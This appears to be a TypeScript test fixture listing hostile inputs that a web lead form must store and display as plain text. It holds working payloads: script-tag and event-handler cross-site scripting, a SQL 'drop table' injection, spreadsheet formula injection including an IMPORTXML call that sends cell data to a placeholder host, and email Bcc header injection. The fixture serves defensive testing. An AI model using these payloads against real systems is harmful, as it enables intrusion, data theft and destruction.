export interface Hostile {
  /** As a visitor, or a machine, gives it. */
  given: string;
  /** As a form sends it and the table holds it, where that differs: what no database takes is cleaned away, nothing else. */
  sent?: string;
  /** As a cell of the sheet and the message of a mail show it, where that differs: line breaks as \n, a tab as a blank. */
  shown?: string;
}

/** Hostile strings. None may be refused, and none may be anything but text wherever it arrives. */
export const HOSTILE: readonly Hostile[] = [
  { given: '<script>alert(1)</script>' },
  { given: '"><img src=x onerror=alert(1)>' },
  { given: '</script><svg/onload=1>' },
  { given: 'javascript:alert(1)' },
  { given: '{{7*7}} ${7*7}' },
  { given: '=HYPERLINK("http://x","y")' },
  { given: '=IMPORTXML("http://x/?"&A1,"//a")' },
  { given: '+971 50 123 4567' },
  { given: '+971501234567' },
  { given: '-2+3' },
  { given: '@SUM(1)' },
  { given: '\t=1', shown: ' =1' },
  { given: '\r=1', shown: '\n=1' },
  { given: '\n=1' },
  { given: ' =1' },
  { given: '\u00a0=1' },
  { given: '＝1' },
  { given: "'=1" },
  { given: '"; drop table lead_form;--' },
  { given: '%00' },
  { given: 'a\u0000b', sent: 'ab', shown: 'ab' },
  { given: 'a\ufffeb', sent: 'ab', shown: 'ab' },
  { given: 'lone \ud800 half', sent: 'lone \ufffd half', shown: 'lone \ufffd half' },
  { given: 'x\r\nBcc: a@b.c', shown: 'x\nBcc: a@b.c' },
  { given: 'a@b.c, d@e.f' },
  { given: 'right \u202e left' },
  { given: 'zero\u200dwidth\u200b' },
  { given: 'a' + '\u0301'.repeat(5000) },
  { given: 'فاطمة الزهراء' },
  { given: '👩‍👩‍👧‍👦 İstanbul Straße' },
  { given: '% _ \\ * ( ) . , " \' &' },
  { given: '0' },
  { given: '007' },
  { given: 'x'.repeat(1001) },
  { given: '__proto__' },
  { given: 'constructor' },
  { given: 'null' },
  { given: 'undefined' },
  { given: 'NaN' },
  { given: '1e309' },
  { given: '1e3' },
  { given: '2026-02-31' },
  { given: '2026-02-01' },
  { given: 'TRUE' },
];
